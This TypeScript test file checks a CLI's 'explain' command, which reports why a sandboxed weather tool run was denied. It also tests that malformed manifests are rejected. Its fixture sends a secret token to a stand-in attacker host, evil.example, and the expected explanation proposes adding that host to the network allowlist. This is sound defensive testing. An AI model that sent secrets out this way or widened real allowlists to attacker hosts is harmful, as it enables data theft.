/** `writ explain` of real runs: a denied import, a denied decision, what is no manifest. */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { builtTool, cli, makeFolder, stdin, type TestFolder } from "./support.ts";

const POLICY = {
  tool_id: "weather",
  tenant_tier: ["local"],
  purpose: ["local"],
  functions: { "weather/forecast-from": { operation: "read" } },
  network_allowlist: [
    { host: "api.example.com", scheme: "https", port: 443, methods: ["GET"], paths: ["/v1/*"] },
  ],
  max_duration_ms: 20_000,
  budget: {
    fuel: 2e8,
    memory_bytes: "64MiB",
    egress_bytes: "1MiB",
    requests: 5,
    output_bytes: "256KiB",
    log_bytes: "64KiB",
  },
};

let folder: TestFolder;
let data: string;
let answer: { readonly run: string };
let text: string;
beforeAll(async () => {
  folder = await makeFolder();
  data = `${folder.path}/data`;
  const policy = await folder.put("policy.json", JSON.stringify(POLICY));
  const input = '{"url":"https://evil.example/v2?token=s3cr3t","place":{"latitude":1,"longitude":2}}';
  const args = [
    "run",
    builtTool("weather"),
    "forecast-from",
    "--input",
    input,
    "--policy",
    policy,
    "--data",
    data,
    "--purpose",
    "local",
    "--json",
  ];
  const ended = await cli(args);
  text = ended.out;
  answer = JSON.parse(text);
});
afterAll(() => folder.remove());

const CHANGE =
  'add to network_allowlist: { host: "evil.example", scheme: https, port: 443, methods: [GET], paths: ["/v2"] }';

describe("explain", () => {
  it("names function, target, missing clause and the smallest change, from the data folder", async () => {
    const { code, out, err } = await cli(["explain", answer.run, "--data", data]);
    expect([code, err]).toEqual([0, ""]);
    expect(out).toMatch(/^run_\w+ denied-import$/m);
    expect(out).toMatch(/function +weather weather\/forecast-from/);
    expect(out).toMatch(/wasi:http\/outgoing-handler#handle {2}GET https:\/\/evil\.example:443\/v2$/m);
    expect(out).toMatch(/missing {3}network_allowlist$/m);
    expect(out).toContain(`to allow  ${CHANGE}`);
    expect(out).not.toContain("s3cr3t");
  });

  it("says the same of the answer's file, as JSON, and the manifest itself has the change", async () => {
    const file = await folder.put("answer.json", text);
    const { code, out } = await cli(["explain", file, "--json"]);
    expect(code).toBe(0);
    expect(JSON.parse(out)).toMatchObject({
      run: answer.run,
      decision: { effect: "allow" },
      outcome: { kind: "denied-import" },
      denials: [
        {
          import: "wasi:http/outgoing-handler#handle",
          missing: "network_allowlist",
          times: 1,
          change: CHANGE,
        },
      ],
    });
    const { out: piped } = await cli(["explain", "-", "--json"], stdin(text));
    expect(piped).toBe(out);
  });

  it.each([
    ["a run that is not there", ["run_00000000000000000000000000"], /the data folder has no such run/],
    ["a file that is not there", ["/nowhere.json"], /no such file/],
  ])("refuses %s", async (_, args, message) => {
    const { code, err } = await cli(["explain", ...args, "--data", data]);
    expect(code).toBe(2);
    expect(err).toMatch(message);
  });

  it.each([
    "{}",
    "[]",
    "null",
    "{",
    '{"dsseEnvelope":{"payload":"e30="}}',
    '{"manifest":{"dsseEnvelope":7}}',
    "",
  ])("refuses %j, which is no manifest", async (content) => {
    const { code, err } = await cli(["explain", await folder.put("bad.json", content)]);
    expect(code).toBe(2);
    expect(err).toMatch(/wanted a manifest or an answer/);
  });
});
